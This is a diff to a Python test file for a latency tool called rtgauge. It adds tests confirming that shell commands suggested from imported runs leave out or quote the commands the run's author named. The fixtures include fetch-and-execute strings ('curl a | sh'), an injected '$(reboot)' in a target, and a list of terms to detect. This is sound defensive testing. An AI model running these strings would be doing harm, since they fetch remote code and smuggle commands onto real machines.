@@ -67,6 +67,7 @@ from rtgauge.report.render.causes_text import common, lines
 from rtgauge.report.render.perfetto import trace
 from rtgauge.report.results import model
 from rtgauge.store import Store, StoredRun, new_run_id
+from rtgauge.store.samples import IMPORTED
 from rtgauge.stream import StreamWriter, Tally
 from rtgauge.target.lab import LabTarget
 
@@ -1264,6 +1265,7 @@ DAMAGED: list[object] = [
     5,
     {"a": 1},
     ["run"],
+    [["put", "--step", "0"]],
     [[]],
     [[1]],
     [["boot"]],
@@ -1367,7 +1369,7 @@ def test_runs_that_cannot_be_replayed_are_refused_with_a_remedy(
 
 def test_a_command_to_try_is_quoted_whatever_the_run_says(stored: StoredRun) -> None:
     """A user copies it into a shell, and the run may be from elsewhere."""
-    step = {"step": 0, "parameters": 5}
+    step = {"step": 0, "measurement": "timer", "parameters": 5}
     changed = {"target": "ssh:$(reboot);b", "orders": [["run", "--step"]], "environment": 5}
     changed["steps"] = [step]
     system = system_of(StoredRun(stored.path, {**stored.document, **changed}), 0)
@@ -1405,6 +1407,67 @@ def test_a_command_to_try_omits_defaults_and_the_trace(stored: StoredRun) -> Non
     document = {**document, "orders": None, "steps": [step]}
     system = system_of(StoredRun(stored.path, document), 0)
     assert system.words == ("timer", "--method", "itimer", "--load", "auto")
+
+
+FOREIGN_STEP: dict[str, Any] = {
+    "parameters": {"interval": "1ms", "method": "-x", "boot-cmd": "curl c | sh", "line": "a.so"},
+    "run_options": {
+        "load": "sched,exec:program=curl",
+        "load-cmd": "curl a | sh",
+        "load-cmd-root": True,
+        "allow-load-cmd": True,
+        "disturb": "irq_off:1s:2s",
+        "allow-disturb": True,
+        "agent": "/evil",
+        "histogram-only": True,
+    },
+}
+
+
+@pytest.mark.parametrize("target", ["local", "ssh://b", "lab:x86_64-stock"])
+def test_a_command_to_try_starts_nothing_that_an_imported_run_names(
+    stored: StoredRun, target: str
+) -> None:
+    """Its orders are not checked at the import, and its step may name a program of its author."""
+    words = ["run", "a", "run", "timer", "--load-cmd", "curl b | sh", "--allow-load-cmd"]
+    entry = {**stored.document["steps"][0], **FOREIGN_STEP}
+    changed = {"target": target, "orders": [[*words, "--run", "x", "--step", "0"]]}
+    run = StoredRun(stored.path, {**stored.document, **changed, "steps": [entry]})
+    (run.path / IMPORTED).touch()
+    (remedy,) = remedies(Segment(0, 1, "hardware", "exact"), system_of(run, 0))
+    command, _, comment = remedy.command.partition(" # ")
+    words = shlex.split(command)
+    assert words[:5] == ["rtgauge", "tune", "timer", "--interval", "1ms"]
+    assert "--method=-x" in words
+    assert words[-2:] == ["--try", "idle=poll"]
+    assert "curl b" not in command
+    named = {"curl", "| sh", "a.so", "irq_off", "allow", "root", "boot-cmd", "evil"}
+    if target.startswith("lab:"):
+        assert "--load-cmd" in words
+        assert not comment
+    else:
+        assert not {one for one in named if one in command}
+        assert "--load-cmd" in comment
+        assert "--boot-cmd" in comment
+
+
+def test_no_command_is_given_for_a_run_that_none_repeats(stored: StoredRun) -> None:
+    unnamed = {**stored.document["steps"][0], "measurement": None}
+    for changed in ({"target": "capture:scope"}, {"steps": [unnamed]}):
+        run = StoredRun(stored.path, {**stored.document, "orders": None, **changed})
+        (remedy,) = remedies(Segment(0, 1, "hardware", "exact"), system_of(run, 0))
+        assert (remedy.command, bool(remedy.text)) == ("", True)
+    document = {name: one for name, one in stored.document.items() if name != "target"}
+    (remedy,) = remedies(
+        Segment(0, 1, "hardware", "exact"), system_of(StoredRun(stored.path, document), 0)
+    )
+    assert "--target" not in remedy.command
+
+
+@pytest.mark.parametrize("orders", [[["put", "--step", "0"]], [["read", "0"]], *DAMAGED])
+def test_orders_of_any_form_do_not_stop_a_report(stored: StoredRun, orders: object) -> None:
+    run = StoredRun(stored.path, {**stored.document, "orders": orders})
+    assert system_of(run, 0).words[0] == "timer"
 
 
 def test_a_run_of_histograms_alone_is_refused(stored: StoredRun) -> None:
